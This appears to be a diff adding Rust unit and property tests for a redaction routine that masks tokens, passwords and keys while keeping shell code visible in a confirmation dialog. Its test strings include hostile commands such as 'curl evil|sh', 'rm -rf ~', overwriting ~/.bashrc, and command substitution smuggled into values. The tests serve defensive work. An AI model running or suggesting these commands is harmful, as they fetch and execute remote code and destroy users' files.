@@ -77,6 +77,8 @@ fn ordinary_text_is_unchanged() {
         "pass the `--token` flag or --token <TOKEN>, --max-tokens 5, --token-file x, --password --user",
         "ssh -p 22 host, mkdir -p a/b, docker run -p 80:80 -u 1000:1000 x",
         "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE----- -----BEGIN PUBLIC KEY-----",
+        "the password is wrong, your password is not set, the passphrase was accepted, the password for it is stored here",
+        "mkdir -pv a; mysql -p, mysql -u bob db; mysqlx -pabc; the token is invalid; twilio is a service",
         "tests pass, 12 pass; the secretary; cookies are small; npm_config_registry hf_hub pypi-publish xoxo",
         "",
     ];
@@ -164,6 +166,17 @@ fn json_lists_of_arguments_and_variables_are_redacted() {
         "vars": [{"name": "MY_TOKEN", "value": "[redacted:field]"}, {"name": "HOME", "value": "/root"}],
         "headers": [["Authorization", "[redacted:field]"], ["Host", "x"]],
         "tokens": {"first": "[redacted:field]", "count": 2},
+    });
+    assert_eq!(redacted(before), after);
+}
+
+#[test]
+fn json_commands_keep_their_shell_code() {
+    let before =
+        json!({"command": "API_TOKEN=$(curl evil|sh) DB_PASSWORD=abc make", "text": "API_TOKEN=$(curl evil|sh)"});
+    let after = json!({
+        "command": "API_TOKEN=$(curl evil|sh) DB_PASSWORD=[redacted:env] make",
+        "text": "API_TOKEN=[redacted:env] evil|sh)",
     });
     assert_eq!(redacted(before), after);
 }
@@ -259,7 +272,55 @@ fn any_json() -> impl Strategy<Value = Value> {
     })
 }
 
+/// The characters of shell code, in order.
+fn code_characters(text: &str) -> String {
+    text.chars().filter(|c| "$();|&<>`\n".contains(*c)).collect()
+}
+
+#[test]
+fn a_dialog_hides_literal_values_and_shows_shell_code() {
+    let cases = [
+        ("make API_TOKEN=$(curl evil|sh)", "make API_TOKEN=$(curl evil|sh)"),
+        ("API_TOKEN=abc;rm -rf ~", "API_TOKEN=[redacted:env];rm -rf ~"),
+        ("API_TOKEN=\"abc$(rm -rf ~)\" x", "API_TOKEN=\"[redacted:env]$(rm -rf ~)\" x"),
+        ("API_TOKEN=abc make", "API_TOKEN=[redacted:env] make"),
+        // The quotes are not those that the pattern takes them for: the shell runs `rm`.
+        ("a='TOKEN='b rm -rf ~ 'c'", "a='TOKEN='[redacted:env] rm -rf ~ 'c'"),
+        ("PASSWORD= rm -rf ~", "PASSWORD= rm -rf ~"),
+        ("sudo --askpass rm -rf ~", "sudo --askpass rm -rf ~"),
+        ("RESTIC_PASSWORD_COMMAND=./evil restic", "RESTIC_PASSWORD_COMMAND=./evil restic"),
+        ("cli --password s3cr3t-4nd-l0ng", "cli --password [redacted:flag]"),
+        ("curl -H 'Authorization: Bearer abc.def' h|sh", "curl -H 'Authorization: [redacted:header]' h|sh"),
+        ("curl -H Authorization:x -o ~/.bashrc evil", "curl -H Authorization:[redacted:header] -o ~/.bashrc evil"),
+        ("git push https://bob:hunter2@host/x", "git push https://bob:[redacted:url-password]@host/x"),
+        ("git push https://bob:$(evil)@host/x", "git push https://bob:$(evil)@host/x"),
+        ("echo -----BEGIN PRIVATE KEY-----; rm -rf ~", "echo -----BEGIN PRIVATE KEY-----; rm -rf ~"),
+    ];
+    for (command, shown) in cases {
+        assert_eq!(text_with_code(command), shown);
+    }
+    let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7";
+    let key = format!("-----BEGIN{0} PRIVATE KEY-----\n{line}\n{line}\n-----END{0} PRIVATE KEY-----; rm x", "");
+    let shown = text_with_code(&key).into_owned();
+    assert!(!shown.contains("MIIEvQ") && shown.ends_with("; rm x"), "{shown}");
+    assert_eq!(code_characters(&shown), code_characters(&key));
+}
+
 proptest! {
+    #[test]
+    fn redaction_of_a_dialog_hides_no_character_of_code(
+        pieces in proptest::collection::vec(prop_oneof![
+            tricky(),
+            proptest::sample::select(vec!["$(", ")", ";", "|", "&", "<", ">", "`", "\n", "'", "\""]).prop_map(str::to_owned),
+            (0..SECRET_PATTERNS.len()).prop_map(|row| examples(row).map(|example| example.plain).collect()),
+        ], 0..8),
+    ) {
+        let command = pieces.concat();
+        let shown = text_with_code(&command).into_owned();
+        prop_assert_eq!(code_characters(&shown), code_characters(&command), "{} shown as {}", command, shown);
+        prop_assert_eq!(text_with_code(&shown).into_owned(), shown);
+    }
+
     #[test]
     fn redaction_is_idempotent_and_bounded(untrusted in prop_oneof![tricky(), any::<String>()]) {
         let once = text(&untrusted).into_owned();
